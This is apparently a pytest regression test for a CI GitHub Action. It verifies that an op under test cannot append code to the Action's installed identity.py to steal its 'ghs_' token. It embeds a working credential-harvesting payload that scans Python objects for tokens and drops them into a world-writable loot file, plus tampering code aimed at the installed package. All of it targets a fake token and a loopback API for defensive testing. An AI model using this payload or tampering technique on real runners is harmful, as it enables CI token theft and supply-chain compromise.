"""Issue 26, item 1: code under test cannot change what the process holding the token later loads.

The attack: in a workspace owned by root (a self-hosted runner or a container job running as root), an op
appends code to gpuemu-ci's installed `gpuemu_ci/github/identity.py`, which the Action's own process used to
import only after the suite, to post the comment. That code walks the process's objects for a `ghs_` token
and writes what it finds where the attacker can read it.

The Action runs here as the runner runs it: its entrypoint from a copy of gpuemu-ci installed for the test
(root's files, as in the Action's image), a fake token, the loopback GitHub API, and an interpreter every user
can run (support_uids.shared_interpreter). The op must be refused the write, run as a user other than root,
and the token must never reach the loot; the Action still posts its comment.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import sys
from pathlib import Path

import pytest

from tests.action.support_runner import REPO, pull_request_event, run_step, runner_env, write_tiny_project
from tests.github.support_fake_api import FakeGitHub

HEAD, BASE, MERGE = "d" * 40, "e" * 40, "f" * 40

# Runs inside the Action's own process if it is ever imported from the tampered file.
PLANTED = """

def _gpuemu_steal():
    import gc, os
    found = set()
    for obj in gc.get_objects():
        values = obj.values() if isinstance(obj, dict) else getattr(obj, "__dict__", {}).values()
        try:
            found.update(v for v in values if isinstance(v, str) and v.startswith("ghs_"))
        except Exception:
            pass
    with open(os.path.join(os.environ.get("GPUEMU_LOOT", "/nonexistent"), "stolen.txt"), "a") as f:
        f.write("\\n".join(sorted(found)) + "\\n")
    os.chmod(os.path.join(os.environ.get("GPUEMU_LOOT", "/nonexistent"), "stolen.txt"), 0o666)


_gpuemu_steal()
"""

ATTACK_OPS = f"""
import json, os, pathlib
import numpy as np
import gpuemu_ci

PLANTED = {PLANTED!r}


def _tamper():
    target = pathlib.Path(gpuemu_ci.__file__).parent / "github" / "identity.py"
    try:
        with open(target, "a") as handle:
            handle.write(PLANTED)
        outcome = "written"
    except OSError as exc:
        outcome = f"refused: {{exc.strerror}}"
    loot = pathlib.Path(os.environ["ATTACK_LOOT"])
    (loot / f"attempt-{{os.getpid()}}.json").write_text(
        json.dumps({{"target": str(target), "outcome": outcome, "uid": os.getuid()}})
    )


def scale(x):
    _tamper()
    return (x.astype(np.float32) * np.float32(2)).astype(x.dtype)


def scale_ref(x):
    return x * 2.0


def rowsum(x):
    return x.astype(np.float32).sum(axis=-1).astype(x.dtype)


def rowsum_ref(x):
    return x.sum(axis=-1)
"""


def install_copy(root: Path) -> Path:
    """gpuemu-ci and the Action's entrypoint copied to `root` (root's files, as pip installs them in the
    image); returns the entrypoint."""
    root.mkdir(mode=0o755)
    shutil.copytree(REPO / "gpuemu_ci", root / "gpuemu_ci", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy2(REPO / "entrypoint.py", root / "entrypoint.py")
    return root / "entrypoint.py"


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.slow
def test_an_op_in_a_root_owned_workspace_cannot_plant_code_in_the_token_holder(
    fake_github: FakeGitHub,
    open_dir: Path,
    shared_interpreter: list[str],
) -> None:
    entrypoint = install_copy(open_dir / "install")
    identity = open_dir / "install" / "gpuemu_ci" / "github" / "identity.py"
    before = digest(identity)
    loot = open_dir / "loot"
    loot.mkdir()
    loot.chmod(0o1777)  # the attacker's drop box: anyone may write, as /tmp
    workspace = write_tiny_project(open_dir / "ws", ATTACK_OPS)
    assert workspace.stat().st_uid == 0  # the case of the issue: a workspace of root's
    pr = fake_github.add_pull(head_sha=HEAD, base_sha=BASE)
    event = pull_request_event(fake_github, pr, head_sha=HEAD, base_sha=BASE)
    env = runner_env(
        fake_github, workspace, "pull_request", event, sha=MERGE, ref=f"refs/pull/{pr}/merge",
        inputs={"mode": "gate", "baseline": "none"},
    )  # fmt: skip
    env.update(ATTACK_LOOT=str(loot), GPUEMU_LOOT=str(loot))
    step = run_step(env, [*shared_interpreter, sys.executable, str(entrypoint)])

    stolen = (loot / "stolen.txt").read_text() if (loot / "stolen.txt").exists() else ""
    assert fake_github.token not in stolen and "ghs_" not in stolen
    attempts = [json.loads(p.read_text()) for p in loot.glob("attempt-*.json")]
    assert attempts, step.describe()  # the op ran and tried
    for attempt in attempts:
        assert attempt["target"] == str(identity)
        assert attempt["outcome"].startswith("refused"), attempt
        assert attempt["uid"] != 0
    assert digest(identity) == before
    assert step.returncode == 0, step.describe()
    (comment,) = fake_github.comments(pr)  # the Action still had its token, and used it
    assert "passed" in comment["body"]
    assert not os.path.exists(loot / "stolen.txt")  # the planted code never ran anywhere
